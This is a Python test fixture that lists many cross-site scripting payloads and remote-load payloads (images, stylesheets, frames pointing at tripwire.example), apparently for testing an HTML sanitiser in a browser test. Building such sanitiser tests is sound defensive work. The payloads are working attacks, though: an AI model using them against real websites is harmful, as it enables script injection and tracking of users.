"""Attempts to run a script, load something or dress up as the product, from the known collections.

`alert` is hooked by the browser test; a picture, style sheet or frame from TRIP, a stranger's host, shows as a request.
"""

TRIP = "https://tripwire.example"

SCRIPTS = """
<script>alert(1)</script>
<SCRIPT SRC={trip}/x.js></SCRIPT>
<scr<script>ipt>alert(1)</scr</script>ipt>
<script/x>alert(1)</script>
<svg/onload=alert(1)>
<svg><script>alert(1)</script></svg>
<svg><a xlink:href="javascript:alert(1)"><text x=0 y=20>click</text></a></svg>
<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>
<svg><set attributeName=href to=javascript:alert(1) onbegin=alert(1)></svg>
<svg><style><img src=x onerror=alert(1)></style></svg>
<svg></p><style><a id="</style><img src=x onerror=alert(1)>"></svg>
<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>
<math><mi//xlink:href="javascript:alert(1)">click</math>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=alert(1)&gt;"></math>
<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=alert(1)>
<math><annotation-xml encoding="text/html"><img src=x onerror=alert(1)></annotation-xml></math>
<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>
<noembed><img title="</noembed><img src=x onerror=alert(1)>"></noembed>
<noframes><img title="</noframes><img src=x onerror=alert(1)>"></noframes>
<xmp><img title="</xmp><img src=x onerror=alert(1)>"></xmp>
<template><img src=x onerror=alert(1)></template>
<textarea><img title="</textarea><img src=x onerror=alert(1)>"></textarea>
<title><img title="</title><img src=x onerror=alert(1)>"></title>
<!--><img src=x onerror=alert(1)>-->
<!--[if gte IE 4]><script>alert(1)</script><![endif]-->
<![CDATA[><img src=x onerror=alert(1)>]]>
<?xml version="1.0"?><img src=x onerror=alert(1)>
<img src=x onerror=alert(1)>
<img src=x onerror=alert(1)//
<img/src="x"/onerror="alert(1)">
<IMG SRC=x OnErRoR = "alert(1)">
<img src="x`<script>alert(1)</script>"onerror="alert(1)">
<img src=x:x onerror=&#97;&#108;&#101;&#114;&#116;(1)>
<img src='cid:x' onerror='alert(1)'>
<img alt="<x" src=x onerror=alert(1)>
<img alt="]</a><img src=x onerror=alert(1)>" src="{trip}/a.png">
<img alt='" onmouseover="alert(1)' src="{trip}/a.png">
<img src='{trip}/a.png"onerror="alert(1)'>
<img src=javascript:alert(1)>
<a href=javascript:alert(1)>click</a>
<a href="JaVaScRiPt:alert(1)">click</a>
<a href=" &#14; javascript:alert(1)">click</a>
<a href="java&#x09;script:alert(1)">click</a>
<a href="java&#10;script&colon;alert(1)">click</a>
<a href="&#0000106avascript:alert(1)">click</a>
<a href="vbscript:alert(1)">click</a>
<a href="data:text/html,<script>alert(1)</script>">click</a>
<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">click</a>
<a href="blob:{trip}/1">click</a>
<a href="https:javascript:alert(1)">click</a>
<a href=https://x onmouseover=alert(1) onfocus=alert(1) autofocus tabindex=1>click</a>
<a id=x tabindex=1 onfocusin=alert(1) autofocus>click</a>
<p onclick=alert(1) onpointerenter=alert(1)>click</p>
<body onload=alert(1) onpageshow=alert(1)>
<html onmousemove=alert(1)><p>click
<iframe src="javascript:alert(1)"></iframe>
<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>
<frameset onload=alert(1)><frame src=javascript:alert(1)></frameset>
<object data="javascript:alert(1)"></object>
<object data="data:text/html,<script>parent.alert(1)</script>"></object>
<embed src="javascript:alert(1)">
<applet code=alert(1)></applet>
<video><source onerror=alert(1) src=x></video>
<video src=x onerror=alert(1) autoplay></video>
<audio src=x onerror=alert(1)></audio>
<details open ontoggle=alert(1)>click</details>
<marquee onstart=alert(1)>click</marquee>
<input autofocus onfocus=alert(1)>
<select autofocus onfocus=alert(1)><option>x</select>
<keygen autofocus onfocus=alert(1)>
<form action=javascript:alert(1)><input type=submit id=s></form><label for=s>click</label>
<form><button formaction=javascript:alert(1)>click</button></form>
<isindex type=image src=x onerror=alert(1)>
<meta http-equiv=refresh content="0;url=javascript:alert(1)">
<style>@keyframes x{{}}</style><p style="animation-name:x" onanimationstart=alert(1)>x</p>
<p style="width:expression(alert(1))">x</p>
<div hx-get="/contacts/" hx-trigger=load hx-on::load="alert(1)">click</div>
<div data-hx-on:click="alert(1)" data-bs-toggle=modal>click</div>
<b><script>alert(1)</b></script>
<table><td><style><!--</style><img src=x onerror=alert(1)>--></td></table>
<p title="<img src=x onerror=alert(1)>" dir="rtl onclick=alert(1)">click</p>
<td colspan="1 onclick=alert(1)">x<th rowspan='"><script>alert(1)</script>'>
{null}<scr{null}ipt>alert(1)</script>
\u00bcscript\u00bealert(1)\u00bc/script\u00be
<img \x0bsrc=x \x0conerror=alert(1)>
<\u017fcript>alert(1)</\u017fcript>
<custom-tag is=x onclick=alert(1)>click</custom-tag>
<a href="https://x" ping="{trip}/ping" target=_self>click</a>
"""

LOADS = """
<img src="{trip}/a.png">
<img src="http://tripwire.example/a.png">
<img src="//tripwire.example/a.png">
<img srcset="{trip}/a.png 2x" src=cid:1>
<picture><source srcset="{trip}/a.png"><img src="{trip}/b.png"></picture>
<img src="cid:1" lowsrc="{trip}/a.png" dynsrc="{trip}/a.png" longdesc="{trip}/a">
<input type=image src="{trip}/a.png">
<body background="{trip}/a.png"><table background="{trip}/b.png"><td background="{trip}/c.png">x
<div style="background:url({trip}/a.png)">x</div>
<style>@import '{trip}/a.css'; body{{background:url({trip}/b.png)}}</style>
<link rel=stylesheet href="{trip}/a.css">
<link rel=prefetch href="{trip}/b"><link rel=dns-prefetch href="//tripwire.example">
<base href="{trip}/"><img src="a.png">
<meta http-equiv=refresh content="0;url={trip}/">
<video src="{trip}/a.mp4" poster="{trip}/a.png" autoplay></video><audio src="{trip}/a.mp3" autoplay></audio>
<iframe src="{trip}/"></iframe><object data="{trip}/a"></object><embed src="{trip}/b">
<svg><image href="{trip}/a.png" xlink:href="{trip}/b.png"/><use href="{trip}/c.svg#x"/></svg>
<svg><filter id=f><feImage href="{trip}/a.png"/></filter></svg>
<video><track default src="{trip}/a.vtt"></video>
<img alt="x" src='{trip}/a.png' width=1 height=1>
<a href="x"><img src="{trip}/a.png"></a><img alt='<a href="' src="{trip}/b.png">
<img alt="&quot;><img src={trip}/a.png>" src="{trip}/b.png">
<img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'><image href='{trip}/a'/></svg>">
"""


def _lines(text: str) -> list[str]:
    lines = enumerate(filter(None, text.split("\n")))  # not by \x0b or \x0c
    return [line.format(trip=f"{TRIP}/{number}", null="\x00") for number, line in lines]


SCRIPT_PAYLOADS = _lines(SCRIPTS)
LOAD_PAYLOADS = _lines(LOADS)
PAYLOADS = [*SCRIPT_PAYLOADS, *LOAD_PAYLOADS]
